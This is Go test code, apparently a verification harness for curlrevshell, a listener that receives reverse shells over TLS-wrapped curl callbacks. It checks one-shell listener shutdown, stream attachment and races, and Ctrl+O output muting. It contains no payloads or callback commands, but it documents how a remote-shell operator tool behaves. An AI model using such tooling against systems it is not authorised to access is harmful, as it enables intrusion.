			/* A client that does not speak TLS (a browser pointed at
			http://, curl without -k to the wrong scheme, a scanner): the
			server notes a handshake error, nothing more. */
			cn, err := net.DialTimeout("tcp", addr, 5*time.Second)
			if nil != err {
				return fail("listener-closed-early", fmt.Sprintf("pre-attempt %d (%s): %v", i, pre, err))
			}
			cn.Write([]byte("GET / HTTP/1.0\r\nHost: x\r\n\r\n"))
			cn.SetReadDeadline(time.Now().Add(5 * time.Second))
			io.Copy(io.Discard, cn)
			cn.Close()
		case "silent-tcp":
			/* A TCP connection on which nothing is ever sent (a port
			scan, nc, a client stalled before its handshake), opened just
			before the shell and kept open to the end. */
			cn, err := net.DialTimeout("tcp", addr, 5*time.Second)
			if nil != err {
				return fail("listener-closed-early", fmt.Sprintf("pre-attempt %d (%s): %v", i, pre, err))
			}
			defer cn.Close()
			silentAt = time.Now()
		case "half-out":
			cn, err := openOut(fmt.Sprintf("pre%d", i))
			if nil != err {
				return fail("listener-closed-early", fmt.Sprintf("pre-attempt %d (%s): %v", i, pre, err))
			}
			if !waitNotice(`Output connected`) {
				return fail("pre-attempt-lost", "no 'Output connected' notice")
			}
			cn.Close()
			if !waitNotice(`Shell is gone`) {
				return fail("pre-attempt-lost", "no 'gone' notice after a half-attached output left")
			}
		case "many-half-out":
			/* 1 100 output streams that attach and leave, one after the
			other (scanners, a typo'd one-liner in a loop): whatever that
			fills up, the listener is still open afterwards and the one
			shell still closes it. */
			for k := 0; k < 1100; k++ {
				co, err := openOut(fmt.Sprintf("many%d", k))
				if nil != err {
					return fail("listener-closed-early", fmt.Sprintf("pre-attempt %d (%s), stream number %d: %v", i, pre, k+1, err))
				}
				co.Send("0\r\n\r\n")
				co.ReadResponse("POST")
				co.Close()
			}
			/* The last of them has been announced gone. */
			for deadline := time.Now().Add(c12Wait); time.Now().Before(deadline) && strings.Count(p.Output(), "Shell is gone") < 1100; {
				time.Sleep(20 * time.Millisecond)
			}
			mark = len(p.Output())
		case "refused-io":
			/* A bidirectional client beside a held input: it is refused,
			and is no shell. */
			ci, err := openIn(fmt.Sprintf("pre%d", i))
			if nil != err {
				return fail("listener-closed-early", fmt.Sprintf("pre-attempt %d (%s): %v", i, pre, err))
			}
			if !waitNotice(`Input connected`) {
				return fail("pre-attempt-lost", "no 'Input connected' notice")
			}
			cio, err := hworld.DialAddr(addr, "")
			if nil != err {
				return fail("listener-closed-early", fmt.Sprintf("pre-attempt %d (%s): %v", i, pre, err))
			}
			cio.Send("POST /io HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n")
			if !waitNotice(`Rejected`) {
				return fail("pre-attempt-lost", "no refusal notice for the /io client")
			}
			cio.Close()
			if !canConnect() {
				return fail("listener-closed-early", fmt.Sprintf("pre-attempt %d (%s): after a refused /io client, with only an input stream attached, the listen address no longer accepts connections", i, pre))
			}
			ci.Close()
			if !waitNotice(`Shell is gone`) {
				return fail("pre-attempt-lost", "no 'gone' notice")
			}
		case "refused-out":
			ci, err := openIn(fmt.Sprintf("pre%d", i))
			if nil != err {
				return fail("listener-closed-early", fmt.Sprintf("pre-attempt %d (%s): %v", i, pre, err))
			}
			if !waitNotice(`Input connected`) {
				return fail("pre-attempt-lost", "no 'Input connected' notice")
			}
			co, err := openOut("some-other-id")
			if nil != err {
				return fail("listener-closed-early", fmt.Sprintf("pre-attempt %d (%s): %v", i, pre, err))
			}
			if !waitNotice(`Rejected output connection`) {
				return fail("pre-attempt-lost", "no refusal notice")
			}
			co.Close()
			ci.Close()
			if !waitNotice(`Shell is gone`) {
				return fail("pre-attempt-lost", "no 'gone' notice")
			}
		}
		if strings.Contains(p.Output(), "Closing listener") {
			return fail("listener-closed-early", fmt.Sprintf("the listener was closed after pre-attempt %d (%s), before any shell was fully attached", i, pre))
		}
		if !canConnect() {
			return fail("listener-closed-early", fmt.Sprintf("after pre-attempt %d (%s) the listen address no longer accepts connections", i, pre))
		}
	}

	/* The shell arrives. */
	var ci, co *hworld.Conn
	switch c.Arrival {
	case "in-out":
		if ci, err = openIn("k"); nil != err {
			return fail("listener-closed-early", err.Error())
		}
		if !waitNotice(`Input connected`) {
			return fail("no-shell", "no 'Input connected'")
		}
		if !canConnect() {
			return fail("listener-closed-early", "with only the input attached the listener no longer accepts connections")
		}
		if co, err = openOut("k"); nil != err {
			return fail("listener-closed-early", err.Error())
		}
	case "out-in":
		if co, err = openOut("k"); nil != err {
			return fail("listener-closed-early", err.Error())
		}
		if !waitNotice(`Output connected`) {
			return fail("no-shell", "no 'Output connected'")
		}
		if !canConnect() {
			return fail("listener-closed-early", "with only the output attached the listener no longer accepts connections")
		}
		if ci, err = openIn("k"); nil != err {
			return fail("listener-closed-early", err.Error())
		}
	case "io":
		cn, err := hworld.DialAddr(addr, "")
		if nil != err {
			return fail("listener-closed-early", err.Error())
		}
		cn.Send("POST /io HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n")
		ci, co = cn, cn
	}
	defer ci.Close()
	defer co.Close()
	if c.Traffic {
		/* In flight while the listener closes. */
		for i := 0; i < 3; i++ {
			co.Send(chunk(fmt.Sprintf("EARLY-OUT-%d\n", i)))
			p.Send(fmt.Sprintf("early-line-%d\r", i))
		}
	}
	if !waitNotice(`Shell is ready`) {
		return fail("no-shell", "the shell never became ready")
	}
	if !c.Brief {
		/* New TCP connections are refused shortly afterwards. */
		refused := false
		for deadline := time.Now().Add(20 * time.Second); time.Now().Before(deadline); time.Sleep(50 * time.Millisecond) {
			if !canConnect() {
				refused = true
				break
			}
		}
		if !refused {
			return fail("listener-still-open", "20 s after the ready notice the listen address still accepts connections")
		}
		/* Nor does the process keep any other listening socket (one per
		address family, say): the kernel would go on accepting on it. */
		var held []string
		for deadline := time.Now().Add(20 * time.Second); procOK && time.Now().Before(deadline); time.Sleep(50 * time.Millisecond) {
			var ok bool
			if held, ok = listeningSockets(p.Cmd.Process.Pid); !ok || 0 == len(held) {
				held = nil
				break
			}
		}
		if 0 != len(held) {
			return fail("listener-still-open/another-socket", fmt.Sprintf("20 s after the ready notice the process still holds listening TCP sockets: %v (-listen-address %s)", held, listen))
		}
		/* The attached shell keeps working, both ways. */
		p.Send("marker-line-after-close\r")
		/* (/i sends its response header together with the first line.) */
		if _, err := ci.ReadHeader("GET"); nil != err {
			return fail("shell-disturbed", "operator input no longer reaches the shell after the listener closed: reading the input stream's response header: "+err.Error())
		}
		got := ""
		buf := make([]byte, 4096)
		ci.C.SetReadDeadline(time.Now().Add(c12Wait))
		for !strings.Contains(got, "marker-line-after-close") {
			n, err := ci.R.Read(buf)
			got += string(buf[:n])
			if nil != err {
				return fail("shell-disturbed", fmt.Sprintf("operator input no longer reaches the shell after the listener closed (read %q, %v)", got, err))
			}
		}
		if c.Traffic && !strings.Contains(got, "early-line-2") {
			return fail("traffic-lost", fmt.Sprintf("lines in flight when the listener closed did not arrive (got %q)", got))
		}
		if err := co.Send(chunk("OUT-MARKER-AFTER-CLOSE\n")); nil != err {
			return fail("shell-disturbed", "sending output after the listener closed: "+err.Error())
		}
		if !waitNotice(`OUT-MARKER-AFTER-CLOSE`) {
			return fail("shell-disturbed", "shell output no longer reaches the operator after the listener closed")
		}
		if c.Traffic && !strings.Contains(p.Output(), "EARLY-OUT-2") {
			return fail("traffic-lost", "output in flight when the listener closed was not shown")
		}
		/* ... and goes on working: a second round trip a few seconds later
		(anything that gives up on lingering connections would have by now). */
		quiet := 2500 * time.Millisecond
		if 0 != c.QuietMs {
			quiet = time.Duration(c.QuietMs) * time.Millisecond
		}
		time.Sleep(quiet)
		p.Send("second-marker-line\r")
		ci.C.SetReadDeadline(time.Now().Add(c12Wait))
		for got = ""; !strings.Contains(got, "second-marker-line"); {
			n, err := ci.R.Read(buf)
			got += string(buf[:n])
			if nil != err {
				return fail("shell-disturbed", fmt.Sprintf("a few seconds after the listener closed operator input no longer reaches the shell (read %q, %v)", got, err))
			}
		}
		if err := co.Send(chunk("SECOND-OUT-MARKER\n")); nil != err {
			return fail("shell-disturbed", "sending output a few seconds after the listener closed: "+err.Error())
		}
		if !waitNotice(`SECOND-OUT-MARKER`) {
			return fail("shell-disturbed", "a few seconds after the listener closed shell output no longer reaches the operator")
		}
	} /* !c.Brief: a shell that ends as soon as it is ready skips all that. */
	/* The shell ends. */
	switch c.Ending {
	case "close-in":
		ci.Close()
	case "close-out":
		co.Close()
	case "close-both":
		ci.Close()
		co.Close()
	case "eof":
		co.Send("0\r\n\r\n")
	}
	/* (The 'gone' notice is the moment to go on from, not a clause of this
	property: the program is winding down by then and its terminal side
	may stop taking queued notices before the last one is displayed - see
	DESIGN 12.4, observation O1.  A shell that is not torn down shows below:
	the program then does not exit.) */
	if off := p.WaitFor(regexp.MustCompile(`Shell is gone`), mark, 10*time.Second); off >= 0 {
		mark = off
	}
	goneAt := mark
	ci.Close()
	co.Close()
	/* An operator-scale pause (see C20), then one trigger must do. */
	time.Sleep(3 * time.Second)
	if !silentAt.IsZero() {
		/* net/http's graceful shutdown gives a connection that has not
		sent anything yet five full seconds before it counts as idle; the
		server side is still winding down until then, and a line entered
		meanwhile is, rightly, input for a shell (DESIGN 12.4, O4). */
		time.Sleep(time.Until(silentAt.Add(12 * time.Second)))
	}
	if c.Brief {
		refused := false
		for deadline := time.Now().Add(20 * time.Second); time.Now().Before(deadline); time.Sleep(50 * time.Millisecond) {
			if p.Done() || !canConnect() {
				refused = true
				break
			}
		}
		if !refused {
			return fail("listener-still-open", "the one shell was fully attached and has ended (at once); 23 s later the listen address still accepts connections")
		}
	}
	if p.Done() {
		/* Exiting without waiting for a line is fine too. */
	} else if "line" == c.Trigger {
		p.Send("\r")
	} else {
		p.Send("\x04")
	}
	status := p.Wait(c12Wait)
	out := p.Output()
	if -1 == status {
		return fail("never-exits", "after the shell ended and one more "+c.Trigger+" the program had to be killed")
	}
	if 0 != status {
		return fail("exit-status", fmt.Sprintf("exit status %d", status))
	}
	if !strings.Contains(out, "Goodbye.") {
		return fail("no-goodbye", "no 'Goodbye.'")
	}
	if goneAt <= len(out) && strings.Contains(out[goneAt:], "To get a shell") {
		return fail("callbacks-offered-after-shell", "the one-liners were printed again after the one shell ended")
	}
	if after, _ := p.PTY.Termios(); after != p.Before {
		return fail("terminal-not-restored", "terminal modes differ after exit")
	}
	return "", ""
}

func c12(r *ev.Result, tier string) {
	quick := isQuick(tier)
	base := ev.Scratch("c12-")
	defer os.RemoveAll(base)
	preMenu := []string{"half-in", "half-out", "refused-out", "refused-io"}
	pres := [][]string{nil}
	for _, a := range preMenu {
		pres = append(pres, []string{a})
	}
	if !quick {
		for _, a := range preMenu {
			for _, b := range preMenu {
				pres = append(pres, []string{a, b})
			}
		}
	}
	var cases []c12Case
	i := 0
	for _, pre := range pres {
		for _, arr := range []string{"in-out", "out-in", "io"} {
			for _, end := range []string{"close-in", "close-out", "close-both", "eof"} {
				if "io" == arr && ("close-in" == end || "close-out" == end) {
					continue /* One connection: closing it closes both. */
				}
				if quick {
					/* Traffic and trigger alternate over the product. */
					cases = append(cases, c12Case{Pre: pre, Arrival: arr, Traffic: 0 == i%2, Ending: end, Trigger: []string{"line", "ctrl-d"}[(i/2)%2]})
					i++
					continue
				}
				for _, tr := range []bool{false, true} {
					for _, tg := range []string{"line", "ctrl-d"} {
						cases = append(cases, c12Case{Pre: pre, Arrival: arr, Traffic: tr, Ending: end, Trigger: tg})
					}
				}
			}
		}
	}
	/* A shell left alone for longer after the listener closed (anything
	that gives lingering connections a grace period would have run out). */
	long := 8000
	if !quick {
		long = 35000
	}
	for _, arr := range []string{"in-out", "io"} {
		cases = append(cases, c12Case{Arrival: arr, Ending: "eof", Trigger: "line", QuietMs: long})
	}
	/* With a log that is a device, a FIFO, a file: the exit is the same. */
	for _, lg := range []string{"/dev/null", "fifo", "file"} {
		cases = append(cases, c12Case{Arrival: "io", Ending: "eof", Trigger: "line", Log: lg})
		cases = append(cases, c12Case{Arrival: "in-out", Ending: "close-both", Trigger: "ctrl-d", Log: lg})
	}
	/* Clients that do not speak TLS, before the shell. */
	for _, arr := range []string{"in-out", "io"} {
		cases = append(cases, c12Case{Pre: []string{"plain-http"}, Arrival: arr, Ending: "eof", Trigger: "line"})
		cases = append(cases, c12Case{Pre: []string{"plain-http", "plain-http"}, Arrival: arr, Traffic: true, Ending: "close-both", Trigger: "ctrl-d"})
	}
	/* A silent TCP connection that outlives the shell. */
	for _, arr := range []string{"in-out", "io"} {
		cases = append(cases, c12Case{Pre: []string{"silent-tcp"}, Arrival: arr, Ending: "eof", Trigger: "line"})
		cases = append(cases, c12Case{Pre: []string{"silent-tcp"}, Arrival: arr, Ending: "close-both", Trigger: "ctrl-d", Brief: true})
	}
	/* Very many half-attached attempts before the shell. */
	cases = append(cases, c12Case{Pre: []string{"many-half-out"}, Arrival: "in-out", Ending: "eof", Trigger: "line"})
	/* Listening on every address of the machine, in each spelling. */
	for _, l := range []string{"0.0.0.0:0", ":0", "[::]:0", "[::1]:0"} {
		cases = append(cases, c12Case{Arrival: "io", Ending: "eof", Trigger: "line", Listen: l})
		cases = append(cases, c12Case{Pre: []string{"half-out"}, Arrival: "in-out", Traffic: true, Ending: "close-both", Trigger: "ctrl-d", Listen: l})
	}
	/* A shell that ends the moment it is ready. */
	for _, arr := range []string{"in-out", "out-in", "io"} {
		for _, end := range []string{"eof", "close-both"} {
			cases = append(cases, c12Case{Arrival: arr, Ending: end, Trigger: "line", Brief: true})
		}
	}
	r.Rule = "the real binary with -one-shell on a pty, real TLS clients: pre-attempt sequences (length <=1 quick, <=2 thorough) over {half-attached input that leaves, half-attached output that leaves, refused output next to a held input, refused /io client next to a held input} " +
		"x arrival {/i then /o, /o then /i, /io} x ending {client closes input, output, both, output ends with EOF} x traffic in flight {none, 3 lines + 3 chunks} x exit trigger {line, Ctrl+D} (quick: the last two alternate over the product); " +
		"oracle: connects succeed until the shell is fully attached and are refused within 20 s after the ready notice, a marker goes both ways after the close and again 2.5 s (two cases: 8 s, thorough 35 s) later, nothing in flight is lost, no one-liners after the shell is gone, exit 0 + Goodbye after at most one more line, termios restored"
	var mu sync.Mutex
	parallel(len(cases), func(i int) {
		sig, what := c12Run(cases[i], base)
		mu.Lock()
		r.Evaluations++
		r.Distinct++
		mu.Unlock()
		if "" != sig {
			c := cases[i]
			r.Violate(ev.Violation{Signature: sig + "/pre=" + strings.Join(c.Pre, "+") + "/" + c.Arrival, What: fmt.Sprintf("%+v: %s", c, what), Kind: "c12", Replay: c})
		}
	})
	/* Several bidirectional callbacks at the same moment. */
	c12IORace(r, base, map[bool]int{true: 150, false: 600}[quick])
	/* Two scenarios with the server in-process. */
	c12InProcess(r)
	r.Sample(3, cases[len(cases)/2])
	r.Sample(3, cases[len(cases)-1])
	r.Assume("with a TCP connection around that never sent a byte, the operator's line is entered no earlier than 12 s after that connection was opened (net/http's shutdown waits until such a connection is 5 s old)")
	r.Assume("'shortly' is implemented as 'refused at some poll within 20 s'; the operator's next line is entered 3 s after the shell is gone (net/http's graceful shutdown polls at up to 500 ms)")
}

func c12Replay(kind string, raw json.RawMessage) int {
	if "c12race" == kind {
		r := ev.New("C12", "quick", "exploration")
		base := ev.Scratch("c12r-")
		defer os.RemoveAll(base)
		c12IORace(r, base, 40)
		if r.NViolations() > 0 {
			fmt.Println("reproduced")
			return 1
		}
		fmt.Println("not reproduced in 40 trials")
		return 0
	}
	var c c12Case
	if err := json.Unmarshal(raw, &c); nil != err {
		return 2
	}
	base := ev.Scratch("c12r-")
	defer os.RemoveAll(base)
	sig, what := c12Run(c, base)
	fmt.Printf("%+v\n%s %s\n", c, sig, what)
	if "" != sig {
		fmt.Println("reproduced")
		return 1
	}
	fmt.Println("not reproduced")
	return 0
}

// c12IORace: three /io clients call back at the same moment (a one-liner run
// on three hosts, or three times).  One of them becomes the shell and the
// listener closes; the operator's line reaches that client and that client's
// output is what is displayed - the one shell is one client.
func c12IORace(r *ev.Result, base string, trials int) {
	n := 0
	for trial := 0; trial < trials; trial++ {
		problem := func() string {
			dir, _ := os.MkdirTemp(base, "iorace-")
			defer os.RemoveAll(dir)
			cmd := exec.Command(binPath("curlrevshell"), "-one-shell", "-listen-address", "127.0.0.1:0", "-tls-certificate-cache", filepath.Join(dir, "c", "cert.txtar"))
			cmd.Env = append(os.Environ(), "HOME="+dir, "CURLREVSHELL_LOG=")
			p, err := ptyrun.Start(cmd)
			if nil != err {
				ev.Broken("%s", err)
			}
			defer p.Close()
			lre := regexp.MustCompile(`Listening on (\S+)`)
			if p.WaitFor(lre, 0, c12Wait) < 0 {
				return "the program did not start"
			}
			addr := lre.FindStringSubmatch(p.Output())[1]
			const k = 3
			var (
				conns [k]*hworld.Conn
				wg    sync.WaitGroup
				start = make(chan struct{})
			)
			for i := range conns {
				if conns[i], err = hworld.DialAddr(addr, ""); nil != err {
					return "connecting: " + err.Error()
				}
				defer conns[i].Close()
				wg.Add(1)
				go func(i int) {
					defer wg.Done()
					<-start
					conns[i].Send("POST /io HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n")
				}(i)
			}
			close(start)
			wg.Wait()
			if p.WaitFor(regexp.MustCompile(`Shell is ready`), 0, c12Wait) < 0 {
				return "three /io clients called back together and none became the shell: " + tail(p.Output(), 300)
			}
			/* The operator's line: who gets it? */
			p.Send("ping-from-the-operator\r")
			got := make(chan int, k)
			for i := range conns {
				go func(i int) {
					conns[i].C.SetReadDeadline(time.Now().Add(c12Wait))
					buf, acc := make([]byte, 4096), ""
					for {
						m, err := conns[i].R.Read(buf)
						acc += string(buf[:m])
						if strings.Contains(acc, "ping-from-the-operator") {
							got <- i
							return
						}
						if nil != err {
							return
						}
					}
				}(i)
			}
			var who int
			select {
			case who = <-got:
			case <-time.After(c12Wait):
				return "the shell is announced ready but the operator's line reached none of the three clients"
			}
			conns[who].Send(chunk(fmt.Sprintf("pong-from-client-%d\n", who)))
			if p.WaitFor(regexp.MustCompile(fmt.Sprintf(`pong-from-client-%d`, who)), 0, c12Wait) < 0 {
				return fmt.Sprintf("the operator's line went to client %d, but that client's output is not displayed (its output half is not part of the shell): %s", who, tail(p.Output(), 300))
			}
			return ""
		}()
		n++
		if "" != problem {
			r.Violate(ev.Violation{Signature: "io-race/shell-is-not-one-client", Kind: "c12race", Replay: map[string]any{"scenario": "three /io clients together under -one-shell", "trial": trial},
				What: fmt.Sprintf("-one-shell, three /io clients calling back at the same moment (trial %d): %s", trial, problem)})
			break
		}
	}
	r.Add(n)
	r.AddDistinct(n)
	r.Set("io_race_trials", n)
}
