package checks

/*
 * C19 — Ctrl+O mutes only shell output, ends by itself after calm, loses
 * nothing else.  Built in the "vtime" flavour: lib/opshell/opshell.go's import
 * of time is rewritten (build overlay) to a virtual clock.  The real
 * opshell.Shell is constructed by the real New in worker processes whose
 * controlling terminal is a fresh pty; its Do runs; terminal output goes to a
 * capture file.  Every event string of length L over {Ctrl+O, plain chunk,
 * status line, +0.1 s, +1.9 s, +2.1 s} is executed (stateless DFS, sharded by
 * two-event prefixes over worker processes) against a three-valued reference
 * mute model.
 */

import (
	"bufio"
	"context"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"sync"
	"time"

	"github.com/magisterquis/curlrevshell/lib/opshell"
	"github.com/magisterquis/curlrevshell/verifx/ev"
	"github.com/magisterquis/curlrevshell/verifx/ptyrun"
	"github.com/magisterquis/curlrevshell/verifx/quiesce"
	"github.com/magisterquis/curlrevshell/verifx/rcall"
	"github.com/magisterquis/curlrevshell/verifx/vtime"
)

func init() {
	registry["C19"] = checkDef{level: "model_checking", run: c19, replay: c19Replay}
	workers["c19w"] = c19Worker
}

const c19Alphabet = "OPSJabc"

// c19Pause is the pause interval the statement names (two seconds), whatever
// the code's own constant says.
const c19Pause = 2 * time.Second

var c19Advance = map[byte]time.Duration{'a': 100 * time.Millisecond, 'b': 1900 * time.Millisecond, 'c': 2100 * time.Millisecond}

// termSession is one real Shell on the worker's controlling terminal.
type termSession struct {
	sh      *opshell.Shell
	cleanup func()
	ich     chan string
	och     chan opshell.CLine
	cancel  context.CancelFunc
	ctx     context.Context
	started bool
	doRet   chan error
	capture *os.File
	off     int64
	stdinW  *os.File
	stdinR  *os.File
	insert  []byte
}

var (
	realStdout = os.Stdout
	realStdin  = os.Stdin
)

// newTermSession builds a Shell through the real New and starts its Do.
func newTermSession(capPath string, noTimestamps bool, insert []byte) (*termSession, error) {
	return newTermSessionOpts(capPath, noTimestamps, insert, false)
}

// newTermSessionOpts is newTermSession; with deferStart the caller starts Do
// (ts.start) itself.
func newTermSessionOpts(capPath string, noTimestamps bool, insert []byte, deferStart bool) (*termSession, error) {
	ts := &termSession{ich: make(chan string, 64), och: make(chan opshell.CLine, 4096), doRet: make(chan error, 1), insert: insert}
	var err error
	if ts.capture, err = os.OpenFile(capPath, os.O_RDWR|os.O_CREATE|os.O_TRUNC, 0o600); nil != err {
		return nil, err
	}
	if ts.stdinR, ts.stdinW, err = os.Pipe(); nil != err {
		return nil, err
	}
	os.Stdout, os.Stdin = ts.capture, ts.stdinR
	{
		res := rcall.Call(opshell.New, ts.ich, ts.och, "", noTimestamps, func() ([]byte, error) { return ts.insert, nil }, "the-insert-source")
		ts.sh, _ = res[0].(*opshell.Shell)
		ts.cleanup, _ = res[1].(func())
		err = rcall.Err(res)
	}
	if nil != err {
		os.Stdout, os.Stdin = realStdout, realStdin
		return nil, err
	}
	ctx, cancel := context.WithCancel(context.Background())
	ts.cancel = cancel
	ts.ctx = ctx
	if !deferStart {
		ts.start()
	}
	return ts, nil
}

// start starts the Shell's Do.
func (ts *termSession) start() {
	ts.started = true
	go func() { ts.doRet <- ts.sh.Do(ts.ctx) }()
}

// output returns what reached the terminal since the last call.
func (ts *termSession) output() string {
	fi, err := ts.capture.Stat()
	if nil != err || fi.Size() <= ts.off {
		return ""
	}
	b := make([]byte, fi.Size()-ts.off)
	n, _ := ts.capture.ReadAt(b, ts.off)
	ts.off += int64(n)
	return string(b[:n])
}

func (ts *termSession) close() {
	ts.cancel()
	ts.stdinW.Close() /* ReadLine sees EOF. */
	if ts.started {
		select {
		case <-ts.doRet:
		case <-time.After(30 * time.Second):
		}
	}
	ts.cleanup()
	ts.stdinR.Close()
	ts.capture.Close()
	os.Stdout, os.Stdin = realStdout, realStdin
}

// c19Model is the reference mute model.
type c19Model struct {
	inCycle  bool      /* A Ctrl+O started a mute cycle that was not yet seen to end. */
	firstO   time.Time /* First Ctrl+O of the cycle. */
	lastO    time.Time /* Last Ctrl+O of the cycle. */
	lastP    time.Time /* Last suppressed plain chunk of the cycle. */
	unmuting int       /* "Unmuting" announcements seen in this cycle. */
}

func maxT(a, b time.Time) time.Time {
	if a.After(b) {
		return a
	}
	return b
}

// state returns "muted", "unmuted" or "either" at time t.
func (m *c19Model) state(t time.Time) string {
	if !m.inCycle {
		return "unmuted"
	}
	lo := maxT(m.firstO, m.lastP).Add(c19Pause)
	hi := maxT(m.lastO, m.lastP).Add(c19Pause)
	switch {
	case t.Before(lo):
		return "muted"
	case t.After(hi):
		return "unmuted"
	}
	/* Exactly on a boundary, or between the two readings of a repeated
	Ctrl+O: what was announced decides. */
	if m.unmuting > 0 {
		return "unmuted"
	}
	return "either"
}

type c19Viol struct {
	Sig    string `json:"sig"`
	What   string `json:"what"`
	Events string `json:"events"`
}

// c19Execute runs one event string and returns the violations.
func c19Execute(capPath, events string, trace bool) (viols []c19Viol, err error) {
	vtime.Reset(time.Date(2024, 1, 2, 3, 4, 5, 0, time.UTC))
	t0 := vtime.Now()
	ts, err := newTermSession(capPath, true, []byte("PREVIEW-BYTES of the insert\n"))
	if nil != err {
		return nil, err
	}
	defer ts.close()
	settle := func() { quiesce.Wait() }
	/* The constructor's AfterFunc(0) fires at once on a real clock. */
	vtime.Advance(0, settle)
	ts.output()
	m := &c19Model{}
	add := func(sig, what string, i int) {
		viols = append(viols, c19Viol{Sig: sig, What: fmt.Sprintf("after %q (step %d, virtual time +%v): %s", events[:i+1], i+1, vtime.Now().Sub(t0), what), Events: events[:i+1]})
	}
	for i := 0; i < len(events); i++ {
		e := events[i]
		now := vtime.Now()
		before := m.state(now)
		marker := fmt.Sprintf("<%c%d>", e, i)
		switch e {
		case 'O':
			ts.sh.VerifKey(0x0F)
			settle()
		case 'P':
			ts.och <- opshell.CLine{Plain: true, Line: marker}
			settle()
		case 'S':
			/* Status and log lines come in several dresses; which one is
			used depends on the position, so that every dress meets every
			state. */
			cl := opshell.CLine{Line: marker, Color: opshell.ColorGreen}
			switch i % 4 {
			case 1:
				cl = opshell.CLine{Line: marker + "\n", Color: opshell.ColorNone, NoTimestamp: true}
			case 2:
				cl = opshell.CLine{Line: marker, Color: opshell.ColorRed, NoTimestamp: true}
			case 3:
				cl = opshell.CLine{Line: marker, Color: opshell.ColorNone}
			}
			ts.och <- cl
			settle()
		case 'J':
			ts.sh.VerifKey(0x0A) /* Ctrl+J: show locally what Ctrl+I would send. */
			settle()
		case 'w', 'W':
			/* The system clock is set: ten minutes back / forward (NTP
			step, resume from suspend).  No time passes. */
			vtime.StepWall(map[byte]time.Duration{'w': -10 * time.Minute, 'W': 10 * time.Minute}[e])
			vtime.Advance(0, settle)
		default:
			vtime.Advance(c19Advance[e], settle)
		}
		out := ts.output()
		if trace {
			fmt.Printf("step %d %c: model before: %s; terminal: %q\n", i+1, e, before, out)
		}
		nMuting := strings.Count(out, "Muting until")
		nAlready := strings.Count(out, "Already muted")
		nUnmuting := strings.Count(out, "Unmuting")
		switch e {
		case 'O':
			switch before {
			case "muted":
				if 1 != nAlready || 0 != nMuting {
					add("ctrl-o-while-muted", fmt.Sprintf("expected exactly one 'Already muted', terminal shows %q", out), i)
				}
				m.lastO = now
			case "unmuted":
				if 1 != nMuting || 0 != nAlready {
					add("ctrl-o-not-announced", fmt.Sprintf("expected exactly one 'Muting until ...', terminal shows %q", out), i)
				}
				*m = c19Model{inCycle: true, firstO: now, lastO: now}
			default:
				if 1 != nMuting+nAlready {
					add("ctrl-o-not-announced", fmt.Sprintf("expected one announcement, terminal shows %q", out), i)
				}
				if 1 == nMuting {
					*m = c19Model{inCycle: true, firstO: now, lastO: now}
				} else {
					m.lastO = now
				}
			}
			if 0 != nUnmuting {
				add("unmuting-at-ctrl-o", fmt.Sprintf("'Unmuting' printed in reaction to Ctrl+O: %q", out), i)
			}
		case 'P':
			shown := strings.Contains(out, marker)
			switch before {
			case "muted":
				if shown {
					add("muted-output-shown", "shell output was written to the terminal while muted", i)
				}
				m.lastP = now
			case "unmuted":
				if !shown {
					add("output-suppressed", fmt.Sprintf("shell output %s was not written to the terminal although nothing is muted (terminal shows %q)", marker, out), i)
				}
				m.inCycle = false
			default:
				if shown {
					m.inCycle = false
				} else {
					m.lastP = now
				}
			}
			if 0 != nMuting+nAlready+nUnmuting {
				add("announcement-at-output", fmt.Sprintf("an announcement printed in reaction to shell output: %q", out), i)
			}
		case 'J':
			/* A local status message: shown whether muted or not, and no
			concern of the mute timer. */
			if 1 != strings.Count(out, "Would have sent") || 1 != strings.Count(out, "PREVIEW-BYTES of the insert") {
				add("preview-lost", fmt.Sprintf("Ctrl+J's preview was not displayed in full (model: %s), terminal shows %q", before, out), i)
			}
			if 0 != nMuting+nAlready+nUnmuting {
				add("announcement-at-preview", fmt.Sprintf("a mute announcement printed in reaction to Ctrl+J: %q", out), i)
			}
		case 'S':
			if 1 != strings.Count(out, marker) {
				add("status-line-lost", fmt.Sprintf("status line %s written %d times (model: %s), terminal shows %q", marker, strings.Count(out, marker), before, out), i)
			}
		default:
			m.unmuting += nUnmuting
			after := m.state(vtime.Now())
			if m.inCycle {
				switch after {
				case "unmuted":
					if 1 != m.unmuting {
						add("unmute-not-announced", fmt.Sprintf("calm has lasted more than the pause interval but 'Unmuting' was announced %d times in this cycle", m.unmuting), i)
					}
				case "muted":
					if 0 != m.unmuting {
						add("unmuted-too-early", "'Unmuting' announced before the pause interval of calm has passed", i)
					}
				}
				if m.unmuting > 1 {
					add("unmute-announced-twice", fmt.Sprintf("'Unmuting' announced %d times in one cycle", m.unmuting), i)
				}
			} else if 0 != nUnmuting {
				add("unmuting-without-mute", "'Unmuting' announced although nothing was muted", i)
			}
			if 0 != nMuting+nAlready {
				add("announcement-at-timer", fmt.Sprintf("a mute announcement printed by the passing of time: %q", out), i)
			}
		}
		/* The private flag agrees with the model where the model is sure. */
		silenced, known := ts.sh.VerifMuted()
		if !known {
			continue /* The Shell keeps its state some other way: the terminal decides alone. */
		}
		switch m.state(vtime.Now()) {
		case "muted":
			if !silenced {
				add("flag-not-muted", "the shell is not muted although Ctrl+O was pressed and calm has not lasted the pause interval", i)
			}
		case "unmuted":
			if silenced {
				add("flag-still-muted", "the shell is still muted although calm has lasted more than the pause interval (or nothing was ever muted)", i)
			}
		}
	}
	/* (Linkage: the overlay generator refuses to build this flavour unless
	it could redirect opshell.go's time import; a Shell that has been muted
	has armed a timer on the virtual clock one way or another.) */
	if strings.Contains(events, "O") && 0 == vtime.Created() {
		return nil, fmt.Errorf("Ctrl+O was pressed and no timer was armed on the virtual clock: the vtime shim is not linked into lib/opshell (wrong build flavour)")
	}
	return viols, nil
}

// c19Worker: c19w <length> <prefix> <scratch dir>; prints one JSON line.
func c19Worker(args []string) int {
	runtime.GOMAXPROCS(1)
	var L int
	fmt.Sscan(args[0], &L)
	prefix, dir := args[1], args[2]
	capPath := filepath.Join(dir, fmt.Sprintf("capture-%d", os.Getpid()))
	defer os.Remove(capPath)
	type result struct {
		Execs int            `json:"execs"`
		Steps int            `json:"steps"`
		Viols []c19Viol      `json:"viols"`
		Err   string         `json:"err,omitempty"`
		Stats map[string]int `json:"stats"`
	}
